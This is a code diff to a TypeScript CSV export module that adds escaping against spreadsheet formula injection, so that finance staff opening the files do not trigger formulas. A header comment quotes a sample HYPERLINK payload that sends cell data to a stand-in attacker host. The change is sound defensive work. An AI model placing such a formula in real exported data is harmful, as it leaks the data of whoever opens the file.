@@ -1,9 +1,20 @@
 // `-o csv` (contract: RFC 4180 with a header row) for the list and recon commands, one renderer
-// for all of them. Values are the gateway's, untouched: amounts as it gives them (a JSON number
-// prints as JavaScript writes it, a decimal string as it is), null and absent as an empty field.
+// for all of them. Values are the gateway's: amounts as it gives them (a JSON number prints as
+// JavaScript writes it, a decimal string as it is), null and absent as an empty field.
 // Lines end CRLF (RFC 4180 2.1); a field with a comma, quote, CR or LF is quoted, quotes doubled.
-// A field a spreadsheet would run as a formula (=, +, -, @ first) is left as it is: amounts such
-// as -100.00 must stay numbers, and the gateway's data is what finance asked for.
+//
+// Spreadsheet formulas (contract, "Output rules"; issue 31 item 9): finance opens these files,
+// and a text cell such as `=HYPERLINK("http://evil.example/?"&A1,"Click")` in a refund's message
+// would run when opened. A text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets
+// a leading `'`, which spreadsheets read as "text" and do not show. Numbers stay as they are, so
+// amounts keep summing:
+// - a JSON number is never text: written as JavaScript writes it (`-5`, `1000`);
+// - a text cell that is a plain decimal number, an optional `-`, digits, optionally `.` and
+//   digits (`-100.00`, `-5`, `42`), is written as it is: a spreadsheet reads it as that number
+//   and nothing runs. Anything else starting with a trigger is prefixed, `+3`, `-1e5`, `-.5` and
+//   `--1` included: the gateway never writes numbers so, and a prefixed harmless cell costs less
+//   than a missed formula.
+// `--csv-raw` (CsvOptions.raw) writes every cell as given, for scripts that parse the file.
 
 // Which commands take it: CSV_COMMANDS in program.ts (any other refuses -o csv before sending).
 
@@ -12,16 +23,33 @@ export interface CsvColumn<T> {
   value: (item: T) => unknown;
 }
 
-function field(value: unknown): string {
+export interface CsvOptions {
+  /** --csv-raw: no `'` before cells a spreadsheet would run as a formula. */
+  raw: boolean;
+}
+
+/** A plain decimal number, written as text: kept as it is (see the header). */
+const PLAIN_NUMBER = /^-?[0-9]+(?:\.[0-9]+)?$/;
+/** What makes a spreadsheet read a cell as a formula (or, for tab and CR, hide where one starts). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** The text as a spreadsheet may safely read it: a leading `'` when it would run as a formula. */
+export function spreadsheetSafe(text: string): string {
+  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
+}
+
+function field(value: unknown, options: CsvOptions): string {
   if (value === null || value === undefined) return '';
-  const text = typeof value === 'object' ? JSON.stringify(value) : String(value);
+  let text = typeof value === 'object' ? JSON.stringify(value) : String(value);
+  // Only text is guarded: a number, boolean or bigint value is no formula whatever its sign.
+  if (!options.raw && (typeof value === 'string' || typeof value === 'object')) text = spreadsheetSafe(text);
   return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
 /** The whole document: a header row, then one row per item, every line ending CRLF. */
-export function toCsv<T>(columns: readonly CsvColumn<T>[], items: readonly T[]): string {
-  const lines = [columns.map((c) => field(c.header)).join(',')];
-  for (const item of items) lines.push(columns.map((c) => field(c.value(item))).join(','));
+export function toCsv<T>(columns: readonly CsvColumn<T>[], items: readonly T[], options: CsvOptions): string {
+  const lines = [columns.map((c) => field(c.header, options)).join(',')];
+  for (const item of items) lines.push(columns.map((c) => field(c.value(item), options)).join(','));
   return `${lines.join('\r\n')}\r\n`;
 }
 
